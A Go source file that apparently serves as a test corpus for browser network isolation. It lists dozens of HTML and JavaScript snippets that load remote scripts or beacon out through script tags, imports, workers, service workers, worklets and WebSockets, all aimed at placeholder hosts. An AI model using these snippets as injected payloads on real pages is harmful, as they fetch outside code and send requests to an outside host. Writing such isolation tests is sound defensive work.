package corpus

// scripts are code from elsewhere.
func scripts() []Attack {
	const g = "script"
	return []Attack{
		markup(g, "script", "<script src=@url@.js></script>"),
		markup(g, "module", "<script type=module src=@url@.js></script>"),
		markup(g, "import", "<script type=module>import '@url@.js'</script>"),
		markup(g, "import of an import", "<script type=module src=/a.js></script>").with("a.js", "import '@url@.js'"),
		script(g, "dynamic import", "import('@url@.js')"),
		markup(g, "import map", `<script type=importmap>{"imports":{"x":"@url@.js"}}</script><script type=module>import 'x'</script>`),
		markup(g, "json module", "<script type=module>import a from '@url@.json' with {type:'json'}</script>"),
		markup(g, "css module", "<script type=module>import a from '@url@.css' with {type:'css'}</script>"),
		script(g, "document.write", "document.write('<script src=@url@.js></scr'+'ipt>')"),
		markup(g, "event handler", "<img src=x: onerror=\"new Image().src='@url@'\">"),
		markup(g, "integrity", "<script src=@url@.js integrity=sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= crossorigin></script>"),
	}
}

// workers are scripts besides the page.
func workers() []Attack {
	const g = "worker"
	worker := func(name, body string) Attack { return script(g, name, "new Worker('/w.js')").with("w.js", body) }
	register := "navigator.serviceWorker.register('/sw.js')"
	service := func(name, body string) Attack {
		a := script(g, name, register).with("sw.js", body)
		a.Secure = true
		return a
	}
	return append([]Attack{
		worker("fetch", "fetch('@url@',{mode:'no-cors'})"),
		worker("importScripts", "importScripts('@url@.js')"),
		worker("XMLHttpRequest", "let x=new XMLHttpRequest;x.open('GET','@url@',false);x.send()"),
		worker("WebSocket", "new WebSocket('@sock@')"),
		worker("EventSource", "new EventSource('@url@')"),
		worker("worker in a worker", "new Worker('/v.js')").with("v.js", "fetch('@url@',{mode:'no-cors'})"),
		script(g, "module worker", "new Worker('/w.js',{type:'module'})").with("w.js", "import '@url@.js'"),
		script(g, "blob worker", "new Worker(URL.createObjectURL(new Blob([\"importScripts('@url@.js')\"])))"),
		script(g, "data worker", "new Worker(\"data:text/javascript,importScripts('@url@.js')\")"),
		script(g, "shared worker fetch", "new SharedWorker('/w.js')").with("w.js", "fetch('@url@',{mode:'no-cors'})"),
		script(g, "shared worker WebSocket", "new SharedWorker('/w.js')").with("w.js", "new WebSocket('@sock@')"),
		script(g, "shared worker importScripts", "new SharedWorker('/w.js')").with("w.js", "importScripts('@url@.js')"),
		script(g, "worker redirected", "new Worker('/hop/302')").never("Chromium loads workers from the page's own origin only"),
	}, secure(
		service("service worker fetch", "fetch('@url@',{mode:'no-cors'})"),
		service("service worker importScripts", "importScripts('@url@.js')"),
		service("service worker WebSocket", "new WebSocket('@sock@')"),
		service("service worker WebTransport", "new WebTransport('@https@')"),
		service("service worker module", "import '@url@.js'").replacing(register, "navigator.serviceWorker.register('/sw.js',{type:'module'})"),
		service("service worker answers a frame", "oninstall=()=>skipWaiting();onactivate=e=>e.waitUntil(clients.claim());onfetch=e=>{if(e.request.url.endsWith('two'))e.respondWith(Response.redirect('@url@'))}").
			replacing(register, register+";navigator.serviceWorker.oncontrollerchange=()=>{let f=document.createElement('iframe');f.src='/two';document.body.append(f)}"),
		service("service worker passes on", "oninstall=()=>skipWaiting();onactivate=e=>e.waitUntil(clients.claim());onfetch=e=>{if(e.request.url.endsWith('two'))e.respondWith(fetch('@url@',{mode:'no-cors'}))}").
			replacing(register, register+";navigator.serviceWorker.oncontrollerchange=()=>fetch('/two',{mode:'no-cors'})"),
		service("service worker cache", "oninstall=e=>e.waitUntil(caches.open('a').then(c=>c.addAll(['@url@'])))"),
		script(g, "paint worklet", "CSS.paintWorklet.addModule('@url@.js')"),
		script(g, "audio worklet", "new AudioContext().audioWorklet.addModule('@url@.js')"),
		script(g, "audio worklet, import", "new AudioContext().audioWorklet.addModule('/w.js')").with("w.js", "import '@url@.js'"),
	)...)
}

// replacing changes the page's text.
func (a Attack) replacing(old, text string) Attack {
	a.Page = replace(a.Page, old, text)
	return a
}
